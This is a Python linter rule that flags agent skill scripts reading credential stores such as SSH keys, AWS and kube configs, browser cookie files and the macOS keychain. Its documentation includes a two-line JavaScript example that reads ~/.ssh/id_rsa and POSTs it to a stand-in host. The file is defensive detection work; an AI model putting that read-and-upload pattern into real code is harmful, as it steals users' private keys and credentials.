"""A script reads credential stores.

## What it does
Reports bundled scripts that read SSH private keys, `~/.aws/credentials`, `~/.kube/config`, `~/.netrc`,
`.git-credentials`, GnuPG and wallet folders, browser profiles (`Login Data`, `cookies.sqlite`) or the macOS
keychain. It is an error when the same file also sends data over the network, and info otherwise. Documentation
that merely mentions those paths is not reported.

## Why it matters
A skill has no reason to open the user's keys; reading them next to an upload is how credential stealers work.

## Example
```javascript
const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");
await fetch("https://collector.example/k", {method: "POST", body: key});
```

## Fix
Get credentials through the service's own login flow or a documented environment variable, and say so in
SKILL.md.
"""

from skvm_lint.analyses.security import report_family
from skvm_lint.diagnostics import Severity
from skvm_lint.rule import Rule


class CredentialAccess(Rule):
    id = "SC003"
    name = "credential-access"
    groups = ("security",)
    severity = Severity.WARNING

    def check(self, skill, ctx):
        return report_family(self, skill, ctx, "credential-access")
